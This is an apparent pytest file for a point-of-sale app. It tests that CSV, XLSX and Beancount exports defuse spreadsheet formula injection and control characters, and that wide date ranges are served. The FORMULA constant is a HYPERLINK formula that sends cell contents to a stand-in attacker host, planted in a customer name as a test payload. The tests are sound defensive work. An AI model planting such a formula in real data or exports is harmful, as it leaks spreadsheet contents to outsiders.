"""Exports cannot be poisoned: typed text never becomes a live formula, a stored control
character never breaks an export, and a range reaching the ends of the calendar is served."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from opentill.catalog.models import Customer
from opentill.reports import exports
from tests.integration.test_exports import TODAY
from tests.integration.test_reports import run_scenario

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def poisoned(api_as: Any, shop: dict[str, Any]) -> dict[str, Any]:
    scenario = run_scenario(api_as, shop)
    # Text stored before the door was guarded: a formula and a BEL in a customer's name,
    # which the orders export shows for the invoiced order.
    Customer.objects.filter(name="Café De Hoek").update(name=f"{FORMULA}\x07")
    return scenario


def orders_rows(format: str, path: Any = None) -> list[list[Any]]:
    data = exports.dataset("orders", TODAY(), TODAY())
    if format == "csv":
        out = io.StringIO()
        exports.write_export(data, "csv", out)
        return list(csv.reader(io.StringIO(out.getvalue())))
    from openpyxl import load_workbook

    exports.write_export(data, "xlsx", str(path))
    sheet = load_workbook(path).active
    return [[cell for cell in row] for row in sheet.iter_rows()]


def test_csv_neutralises_formulas_and_control_characters(poisoned):
    rows = orders_rows("csv")
    column = rows[0].index("customer")
    names = [r[column] for r in rows[1:] if r[column]]
    assert names == [f"'{FORMULA}\ufffd"]


def test_xlsx_writes_formula_text_as_an_inert_string(poisoned, tmp_path):
    rows = orders_rows("xlsx", tmp_path / "orders.xlsx")
    column = [c.value for c in rows[0]].index("customer")
    cells = [r[column] for r in rows[1:] if r[column].value]
    assert len(cells) == 1
    assert cells[0].data_type == "s"  # a string cell, never "f" (formula)
    assert cells[0].value == f"{FORMULA}\ufffd"


def test_api_xlsx_export_with_a_control_character_is_served(poisoned, api_as):
    day = TODAY().isoformat()
    response = api_as("accountant").get(
        "/exports/orders", **{"from": day, "to": day, "format": "xlsx"}
    )
    assert response.status_code == 200
    assert b"".join(response.streaming_content)[:2] == b"PK"


def test_beancount_strings_hold_no_control_character():
    assert exports._quoted('a "b"\x07\nc\\') == '"a \\"b\\"\ufffd c\\\\"'


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_a_range_to_the_ends_of_the_calendar_is_everything(poisoned, api_as, format):
    response = api_as("accountant").get(
        "/exports/orders", **{"from": "0001-01-01", "to": "9999-12-31", "format": format}
    )
    assert response.status_code == 200, response.content
    body = b"".join(response.streaming_content)
    if format == "csv":
        assert len(list(csv.reader(io.StringIO(body.decode())))) == 7  # header + 6 orders
